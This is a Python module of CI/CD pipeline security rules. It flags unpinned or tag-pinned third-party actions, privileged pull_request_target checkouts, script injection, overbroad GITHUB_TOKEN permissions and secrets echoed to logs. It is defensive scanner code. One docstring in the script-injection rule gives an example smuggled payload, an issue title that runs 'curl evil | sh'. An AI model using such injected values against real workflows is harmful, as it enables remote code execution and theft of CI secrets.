"""Finding rules over CI/CD pipelines: supply chain, privileged triggers, token scope, leaks.

A CI pipeline holds the keys to the project (deploy credentials, registry and package tokens,
a ``GITHUB_TOKEN`` that can often push), so the classic ways to steal them are the rules here:
mutable third-party action references (a moved tag or branch runs new code with your secrets),
``pull_request_target``/``workflow_run`` workflows that check out and run the attacker's pull
request, ``${{ github.event.* }}`` text interpolated into shell (script injection), default or
``write-all`` token permissions, and secrets printed to the log.

Everything comes from the typed ``ci.pipeline``/``ci.job``/``ci.step`` facts (pin kind of each
action reference, untrusted contexts, PR-head checkouts, ``echoes_secret``, ``permissions``
exactly as written); the rules only decide.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from hyperscore.evaluators.assessment import Dimension, PracticeResult, Severity
from hyperscore.evaluators.decompose.context import DetectionContext
from hyperscore.evaluators.findings.engine import Hit, rule
from hyperscore.evaluators.ingest.parsers.ci_common import ActionRef, CiJob, CiPipeline, CiStep
from hyperscore.evaluators.ingest.parsers.ci_shell import is_secret_name
from hyperscore.evaluators.model import Evidence

#: Triggers whose runs get secrets and a write token while reacting to outsiders' input.
PRIVILEGED_TRIGGERS = frozenset({"pull_request_target", "workflow_run", "issue_comment"})
#: Events whose untrusted text (titles, bodies, branch names) an outsider chooses.
OUTSIDER_TRIGGERS = frozenset(
    {
        "pull_request_target", "workflow_run", "issues", "issue_comment", "discussion",
        "discussion_comment", "pull_request_review", "pull_request_review_comment",
    }
)  # fmt: skip
#: ``if:`` guards that keep fork pull requests out of a privileged job.
_SAME_REPO_GUARD_RE = re.compile(
    r"head\.repo\.full_name\s*==\s*github\.repository"
    r"|github\.repository\s*==\s*github\.event\.pull_request\.head\.repo\.full_name"
    r"|head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork"
)


def _pipelines(ctx: DetectionContext) -> dict[str, CiPipeline]:
    return {p.path: p for p in ctx.typed(CiPipeline)}


def _refs(ctx: DetectionContext) -> Iterator[tuple[Evidence, ActionRef]]:
    """Every referenced action/orb/template with the evidence that cites it."""
    for step in ctx.typed(CiStep):
        if step.uses is not None:
            yield step, step.uses
    for job in ctx.typed(CiJob):
        if job.uses is not None:
            yield job, job.uses
    for pipeline in ctx.typed(CiPipeline):
        for ref in pipeline.uses:
            yield pipeline, ref


def _hit(item: Evidence, ref: ActionRef, message: str) -> Hit:
    return Hit(item.path, ref.line or item.line, message)


def _shown(ref: ActionRef) -> str:
    return f"{ref.action}@{ref.ref}" if ref.ref else ref.action


def _docker_pin(ref: ActionRef) -> str:
    """``docker://`` actions: ``sha`` (digest), ``tag``, or ``none`` (no tag or ``latest``)."""
    if ref.ref and ref.ref.startswith("sha256:"):
        return "sha"
    if not ref.ref or ref.ref == "latest":
        return "none"
    return "tag"


def _pin_of(ref: ActionRef) -> str:
    return _docker_pin(ref) if ref.pin == "docker" else ref.pin


def _github(item: Evidence) -> bool:
    return getattr(item, "system", None) == "github-actions"


@rule(
    "ci-action-unpinned",
    "Third-party CI action on a mutable reference",
    Severity.HIGH,
    "Pin third-party actions to a full 40-character commit SHA (with a # vX.Y.Z comment) and "
    "let Dependabot or Renovate propose updates.",
    Dimension.GOVERNANCE,
    ("security", "supply-chain", "ci"),
)
def ci_action_unpinned(ctx: DetectionContext, practices: list[PracticeResult]) -> Iterator[Hit]:
    """A branch (``@main``) or missing ref runs whatever the action's owner pushes next, with
    this workflow's secrets. GitHub actions with no ref or a branch ref, ``docker://`` images
    without tag or digest; other CI systems only for an explicit branch ref (their references
    without a version are often resolved elsewhere). First-party (``actions/*``) are skipped."""
    for item, ref in _refs(ctx):
        if not ref.third_party:
            continue
        pin = _pin_of(ref)
        if pin == "branch" or (pin == "none" and _github(item)):
            what = "a branch ref" if pin == "branch" else "no pinned version"
            yield _hit(item, ref, f"{_shown(ref)} (third-party action on {what})")


@rule(
    "ci-third-party-action-pinned-by-tag",
    "Third-party CI action pinned by tag, not commit",
    Severity.MEDIUM,
    "Replace the tag with the commit SHA it points to (keep the tag as a comment); tags can be "
    "moved by the action's owner or by whoever compromises it.",
    Dimension.GOVERNANCE,
    ("security", "supply-chain", "ci"),
)
def ci_action_pinned_by_tag(
    ctx: DetectionContext, practices: list[PracticeResult]
) -> Iterator[Hit]:
    """Tags are mutable (tj-actions/changed-files, March 2025: every tag re-pointed to a
    secret-dumping commit). GitHub Actions only: orb and template versions of other systems
    are immutable releases."""
    for item, ref in _refs(ctx):
        if ref.third_party and _github(item) and _pin_of(ref) == "tag":
            yield _hit(item, ref, f"{_shown(ref)} (third-party action pinned to a tag)")


def _guarded(step: CiStep, jobs: dict[tuple[str, str], CiJob]) -> bool:
    job = jobs.get((step.path, step.job_id))
    conditions = " ".join(c for c in (step.condition, job.condition if job else None) if c)
    return bool(_SAME_REPO_GUARD_RE.search(conditions))


@rule(
    "ci-pr-target-checkout",
    "Privileged workflow checks out pull-request code",
    Severity.CRITICAL,
    "Do not check out or run the PR head in pull_request_target/workflow_run/issue_comment "
    "workflows; run untrusted code in a pull_request workflow (no secrets) and pass results as "
    "artifacts, or restrict the job to same-repository branches.",
    Dimension.GOVERNANCE,
    ("security", "ci"),
)
def ci_pr_target_checkout(ctx: DetectionContext, practices: list[PracticeResult]) -> Iterator[Hit]:
    """A "pwn request": these triggers run with the base repository's secrets and a write token,
    so building or testing the pull request's code hands both to its author. Jobs guarded by
    a same-repository ``if:`` are skipped."""
    pipelines = _pipelines(ctx)
    jobs = {(j.path, j.job_id): j for j in ctx.typed(CiJob)}
    for step in ctx.typed(CiStep):
        if not step.checks_out_pr_head:
            continue
        pipeline = pipelines.get(step.path)
        triggers = sorted(PRIVILEGED_TRIGGERS & set(pipeline.triggers)) if pipeline else []
        if triggers and not _guarded(step, jobs):
            yield Hit.at(
                step,
                f"job {step.job_id!r} checks out the pull request's head in a workflow "
                f"triggered by {', '.join(triggers)}",
            )


@rule(
    "ci-script-injection",
    "Untrusted event text interpolated into a script",
    Severity.CRITICAL,
    "Pass the value through an environment variable (env: TITLE: ${{ github.event.issue.title "
    '}}) and use "$TITLE" in the script; never put ${{ }} expressions of event text in run:.',
    Dimension.GOVERNANCE,
    ("security", "ci"),
)
def ci_script_injection(ctx: DetectionContext, practices: list[PracticeResult]) -> Iterator[Hit]:
    """``${{ github.event.issue.title }}`` is pasted into the shell script before it runs, so a
    title like ``"; curl evil | sh #`` executes. Critical where outsiders trigger the workflow
    (issues, comments, pull_request_target, workflow_run); high otherwise (pull_request runs
    from forks have no secrets; push events need write access)."""
    pipelines = _pipelines(ctx)
    for step in ctx.typed(CiStep):
        if not step.untrusted_inputs:
            continue
        pipeline = pipelines.get(step.path)
        outsider = bool(pipeline and OUTSIDER_TRIGGERS & set(pipeline.triggers))
        yield Hit.at(
            step,
            f"{', '.join(step.untrusted_inputs[:3])} interpolated into the script of step "
            f"{step.name!r} (job {step.job_id!r})",
            None if outsider else Severity.HIGH,
        )


def _github_workflows(ctx: DetectionContext) -> Iterator[CiPipeline]:
    """GitHub workflows that are not only reusable (``workflow_call`` runs with the caller's
    token, so the caller's permissions are what matter)."""
    for pipeline in ctx.typed(CiPipeline):
        if pipeline.system == "github-actions" and set(pipeline.triggers) - {"workflow_call"}:
            yield pipeline


@rule(
    "ci-missing-permissions",
    "Workflow token permissions not declared",
    Severity.LOW,
    "Add a top-level `permissions: contents: read` (or `permissions: {}`) and grant write "
    "scopes per job only where needed.",
    Dimension.GOVERNANCE,
    ("security", "ci"),
)
def ci_missing_permissions(ctx: DetectionContext, practices: list[PracticeResult]) -> Iterator[Hit]:
    """Without ``permissions:`` the ``GITHUB_TOKEN`` gets the repository default, which is
    read/write on older repositories and organisations; declaring it caps what a compromised
    step can do. Fires when neither the workflow nor every job declares permissions."""
    jobs: dict[str, list[CiJob]] = {}
    for job in ctx.typed(CiJob):
        jobs.setdefault(job.path, []).append(job)
    for pipeline in _github_workflows(ctx):
        if pipeline.permissions is not None:
            continue
        bare = [j.job_id for j in jobs.get(pipeline.path, []) if j.permissions is None]
        if bare:
            yield Hit.at(
                pipeline,
                f"no top-level permissions: block; job(s) {', '.join(bare[:5])} run with the "
                "repository's default GITHUB_TOKEN permissions",
            )


@rule(
    "ci-write-all-permissions",
    "Workflow grants write-all token permissions",
    Severity.MEDIUM,
    "Replace write-all with the specific scopes the job needs (e.g. contents: read, "
    "packages: write).",
    Dimension.GOVERNANCE,
    ("security", "ci"),
)
def ci_write_all_permissions(
    ctx: DetectionContext, practices: list[PracticeResult]
) -> Iterator[Hit]:
    """``write-all`` lets any step (and any action it runs) push code, create releases and
    approve deployments with the workflow's token."""
    items: list[CiPipeline | CiJob] = [*ctx.typed(CiPipeline), *ctx.typed(CiJob)]
    for item in items:
        if isinstance(item.permissions, str) and item.permissions.strip() == "write-all":
            scope = f"job {item.job_id!r}" if isinstance(item, CiJob) else "the workflow"
            yield Hit.at(item, f"permissions: write-all on {scope}")


@rule(
    "ci-secret-echoed",
    "Secret printed to the CI log",
    Severity.HIGH,
    "Do not echo secrets; pass them to tools via environment variables or files, and mask "
    "derived values (echo ::add-mask::). Rotate any secret that reached a log.",
    Dimension.GOVERNANCE,
    ("security", "secrets", "ci"),
)
def ci_secret_echoed(ctx: DetectionContext, practices: list[PracticeResult]) -> Iterator[Hit]:
    """Log masking is best-effort (it misses transformed, split or multi-line values), and CI
    logs are often readable by everyone with read access to the repository. Low when none of
    the step's secrets is credential-named (a registry user name kept in secrets)."""
    for step in ctx.typed(CiStep):
        if step.echoes_secret:
            names = f" ({', '.join(step.secrets[:3])})" if step.secrets else ""
            credential = not step.secrets or any(is_secret_name(s) for s in step.secrets)
            yield Hit.at(
                step,
                f"step {step.name!r} in job {step.job_id!r} prints a secret{names}",
                None if credential else Severity.LOW,
            )
